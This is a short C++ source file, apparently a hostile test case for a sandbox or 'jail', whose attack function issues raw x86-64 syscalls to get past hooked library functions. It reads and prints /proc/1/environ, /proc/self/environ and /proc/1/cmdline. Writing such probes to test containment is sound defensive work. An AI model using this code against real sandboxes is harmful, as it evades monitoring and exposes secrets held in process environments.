// Hostile: reads the environment of what started the jail, past every function
#include <cstdio>

#include "every_function.hpp"

namespace {

/// A system call that has no name.
long system_call([[maybe_unused]] long number, [[maybe_unused]] long first,
                 [[maybe_unused]] long second, [[maybe_unused]] long third) {
    long result = -1;
#if defined(__x86_64__)
    asm volatile("syscall"
                 : "=a"(result)
                 : "a"(number), "D"(first), "S"(second), "d"(third)
                 : "rcx", "r11", "memory");
#endif
    return result;
}

void attack() {
    static char text[20000];
    for (const char* of : {"/proc/1/environ", "/proc/self/environ", "/proc/1/cmdline"}) {
        const long file = system_call(2, reinterpret_cast<long>(of), 0, 0); // open
        const long size =
            system_call(0, file, reinterpret_cast<long>(text), sizeof text); // read
        for (long i = 0; i < size; ++i)
            if (text[i] == '\0')
                text[i] = '\n';
        std::printf("%s of %s\n", size > 0 ? text : "nothing", of);
    }
}

} // namespace
